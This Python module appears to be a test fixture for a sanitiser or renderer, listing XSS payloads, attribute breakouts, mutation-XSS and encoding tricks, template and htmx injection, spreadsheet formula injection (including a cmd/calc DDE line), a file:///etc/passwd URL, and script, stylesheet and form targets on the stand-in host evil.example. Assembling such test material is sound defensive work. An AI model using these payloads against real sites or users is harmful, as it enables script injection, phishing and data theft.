"""Words that nobody means well: each would run, load, lead or disguise something where a field is not shown as text.

What would run calls `strike()`, which a test defines. They are this project's own; a corpus of others stands beside
the project on some machines, and is read from there.
"""

from __future__ import annotations

from pathlib import Path

OTHERS = Path(__file__).resolve().parents[3] / "shared" / "data" / "xss_payloads.txt"

ELEMENTS = (
    "<script>strike()</script>",
    "<ScRiPt>strike()</sCrIpT >",
    "<script/x>strike()</script/x>",
    "<scr<script>ipt>strike()</scr</script>ipt>",
    "<script src=https://evil.example/strike.js></script>",
    "<img src=x onerror=strike()>",
    "<img src=x onerror='strike()'//",
    "<img\tsrc=x\nonerror\r=\fstrike()>",
    "<IMG SRC=x OnErRoR=&#115;trike()>",
    "<img src=https://evil.example/pixel.gif>",
    "<image href=x onerror=strike()>",
    "<input autofocus onfocus=strike()>",
    "<details open ontoggle=strike()><summary>x",
    "<video><source onerror=strike()></video>",
    "<audio src=x onerror=strike()>",
    "<body onload=strike()>",
    "<iframe src=javascript:parent.strike()></iframe>",
    "<iframe srcdoc='<script>parent.strike()</script>'></iframe>",
    "<object data=javascript:strike()>",
    "<embed src=javascript:strike()>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/strike.css>",
    "<style>@import 'https://evil.example/strike.css'; *{animation:strike 1s}</style>",
    "<form action=https://evil.example/><button autofocus>Sign in",
    "<button formaction=javascript:strike() autofocus>x</button>",
    "<div style=position:fixed;inset:0;background:url(https://evil.example/x)>x</div>",
    "<marquee onstart=strike()>x</marquee>",
    "<dialog open><a href=javascript:strike()>x</a></dialog>",
)
BREAKING_OUT = (
    '"><script>strike()</script>',
    "'><script>strike()</script>",
    '" onmouseover=strike() autofocus onfocus=strike() x="',
    "' onmouseover='strike()",
    "` onmouseover=strike() `",
    "x onmouseover=strike()",
    "</title><script>strike()</script>",
    "</textarea><script>strike()</script>",
    "</script><script>strike()</script>",
    "</style><script>strike()</script>",
    "</option></select><img src=x onerror=strike()>",
    "--><script>strike()</script><!--",
    "]]><script>strike()</script>",
    '\\"><svg onload=strike()>',
)
MUTATING = (
    "<svg onload=strike()>",
    "<svg><script>strike()</script></svg>",
    "<svg><script href=data:,strike() /></svg>",
    "<svg><animate onbegin=strike() attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>strike()</script></svg>#x'/>",
    '<svg></p><style><a id="</style><img src=x onerror=strike()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=strike()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=strike()>">',
    "<template><script>strike()</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=strike()>",
    "&lt;script&gt;strike()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=strike()&amp;gt;",
    r"\u003cimg src=x onerror=strike()\u003e",
    "\uff1cscript\uff1estrike()\uff1c/script\uff1e",
    "+ADw-script+AD4-strike()+ADw-/script+AD4-",
)
ADDRESSES = (
    "javascript:strike()",
    "JaVaScRiPt:strike()",
    " javascript:strike()",
    "java\tscript:strike()",
    "java\nscript:strike()",
    "\x01javascript:strike()",
    "javascript://evil.example/%0astrike()",
    "javascript&colon;strike()",
    "&#106;avascript:strike()",
    "data:text/html,<script>parent.strike()</script>",
    "data:text/html;base64,PHNjcmlwdD5zdHJpa2UoKTwvc2NyaXB0Pg==",
    "vbscript:strike()",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onmouseover=strike()//',
    "http://evil.example\\@desk.example/",
)
MACHINES = (
    "{{ request.user.password }}{{ 7|add:7 }}",
    "{% include 'admin/base.html' %}{% debug %}",
    "${strike()}#{strike()}<%= strike() %>",
    "{{constructor.constructor('strike()')()}}",
    "<div hx-get=/ hx-trigger=load hx-target=body>x</div>",
    "<div hx-on:click=strike() hx-on::load=strike() data-hx-on-load=strike()>x</div>",
    "<div hx-vals='js:{x: strike()}' hx-post=/theme/ hx-trigger=load>x</div>",
    '" hx-get="/" hx-trigger="load" x="',
    "__proto__[strike]=1",
    "constructor.prototype",
)
PRINTED = (
    "[click](javascript:strike())",
    "![x](https://evil.example/pixel.gif)",
    "<https://evil.example/> <javascript:strike()>",
    "[x]: javascript:strike()",
    "```\n<script>strike()</script>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/";"x")',
    "+1+strike()",
    "-2+3+strike()",
    "@SUM(1+1)*strike()",
    "\t=1+1",
    "＝1+1",
)
DISGUISED = (
    "safe\u202etxt.exe\u2066 (see \u2067\u202a\u2069)",
    "z\u0335\u0336\u0334\u0337a\u0335\u0336\u0334l\u0335go" + "\u0335" * 60,
    "line\u2028strike()\u2029strike()\u0085end",
    "\ufeff\u200b\u200d\u00ad<script>strike()</script>",
    "expression(strike()); background:url(javascript:strike())",
    "x" * 2000,
    "<" * 500,
)

PAYLOADS = (*ELEMENTS, *BREAKING_OUT, *MUTATING, *ADDRESSES, *MACHINES, *PRINTED, *DISGUISED)


def read_others() -> list[str]:
    """The corpus of others, a payload a line, without what no database keeps; [] where it is not there."""
    if not OTHERS.exists():
        return []
    lines = OTHERS.read_text(encoding="utf-8", errors="replace").replace("\x00", "").splitlines()
    return list(dict.fromkeys(line for line in lines if line.strip()))
